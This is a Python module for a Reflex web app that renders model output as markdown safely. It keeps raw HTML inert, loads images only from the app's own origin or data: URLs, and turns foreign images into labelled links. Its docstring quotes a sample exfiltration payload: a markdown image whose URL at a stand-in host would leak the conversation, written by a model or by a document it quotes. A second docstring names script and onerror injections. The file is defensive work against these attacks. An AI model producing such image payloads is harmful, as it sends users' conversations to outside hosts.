"""Model text as markdown with KaTeX math; raw HTML is shown as text, never as DOM, and an
image loads only from the app's own origin or `data:` (anything else is a link naming its
host: a model — or a document it quotes — must not make the learner's browser fetch
`![t](https://elsewhere/leak?d=<the conversation>)`). The page's Content-Security-Policy
(`ui.csp`) enforces the same rule a second time. Its headings are the message's own
sections (h3), never the page's."""

from __future__ import annotations

from collections.abc import Sequence

import reflex as rx
from reflex_base.vars.base import Var, VarData
from reflex_components_core.core.markdown_component_map import MarkdownComponentMap
from reflex_components_core.el.elements.inline import A

FOREIGN_IMAGE_CLASS = "lh-foreign-image"

_SRC = Var(_js_expr="src", _var_type=str).to(str)
_ALT = Var(_js_expr="alt", _var_type=str).to(str)
_TITLE = Var(_js_expr="title", _var_type=str).to(str)
"""The `img` rule's arguments, as react-markdown passes them (`src` already normalised:
unsafe characters percent-encoded, unsafe protocols emptied)."""


def _image_view() -> rx.Component:
    """The markdown `img` rule, written with Reflex's Vars (no JavaScript of ours): an image
    of the app itself (a path on this origin) or inline `data:` loads; an `http(s)` image
    anywhere else (or protocol-relative) becomes a link saying which host it is on; anything
    else is its words. A path is this origin's only when it starts with one `/` and holds
    no backslash (the rule cannot know the page's own absolute address: an absolute URL is
    always a link)."""
    lowered = _SRC.lower()
    words = rx.cond(_ALT, _ALT, rx.cond(_TITLE, _TITLE, "image"))
    path = _SRC.startswith("/") & ~_SRC.startswith("//") & ~_SRC.contains("\\")
    own = _SRC.startswith("data:") | path  # a backslash could make a path "//host"
    web = lowered.startswith("http://") | lowered.startswith("https://") | _SRC.startswith("//")
    return rx.cond(
        _SRC & own,
        rx.el.img(src=_SRC, alt=_ALT, title=_TITLE, style={"maxWidth": "100%"}),
        rx.cond(
            _SRC & web,
            A.create(  # a plain <a>: the link leaves the app (rx.el.a is a router link)
                words,
                " (image from ",
                lowered.split("/")[2],
                ")",
                href=_SRC,
                class_name=FOREIGN_IMAGE_CLASS,
                rel="noopener noreferrer nofollow",
                target="_blank",
            ),
            rx.el.span(words, class_name="lh-image-alt"),
        ),
    )


class GuardedImage(MarkdownComponentMap, rx.Fragment):
    """The `img` entry of the markdown component map (`_image_view` is its body)."""

    @classmethod
    def create_map_fn_var(
        cls,
        fn_body: Var | None = None,
        fn_args: Sequence[str] | None = None,
        explicit_return: bool | None = None,
        var_data: VarData | None = None,
    ) -> Var:
        body = Var.create(_image_view())
        return super().create_map_fn_var(
            fn_body=body, fn_args=["node", "src", "alt", "title"], var_data=body._get_all_var_data()
        )


def _guarded_image(*children: object, **props: object) -> rx.Component:
    # The markdown component takes each map entry's imports from the component made here
    # (the map function itself is `create_map_fn_var`'s): so it carries the view.
    return GuardedImage.create(_image_view())


def _model_heading(value: object, size: str) -> rx.Component:
    """A heading in model text is a section of its message or note: one level below the
    page's (the conversation is an h2), whatever `#`s it was written with, so headings
    never skip a level (axe: heading-order). Its size still says how the model ranked it."""
    return rx.heading(value, as_="h3", size=size, margin_y="0.5em")


def _h1(value: object) -> rx.Component:
    return _model_heading(value, "6")


def _h2(value: object) -> rx.Component:
    return _model_heading(value, "5")


def _h3(value: object) -> rx.Component:
    return _model_heading(value, "4")


def _h4(value: object) -> rx.Component:
    return _model_heading(value, "3")


def _h5(value: object) -> rx.Component:
    return _model_heading(value, "2")


def _h6(value: object) -> rx.Component:
    return _model_heading(value, "1")


COMPONENT_MAP = {
    "img": _guarded_image,
    "h1": _h1,
    "h2": _h2,
    "h3": _h3,
    "h4": _h4,
    "h5": _h5,
    "h6": _h6,
}


def safe_markdown(text: rx.Var[str] | str) -> rx.Component:
    """`use_raw=False`: `<script>` or `<img onerror>` in model output stays inert text."""
    return rx.markdown(text, use_raw=False, class_name="lh-markdown", component_map=COMPONENT_MAP)
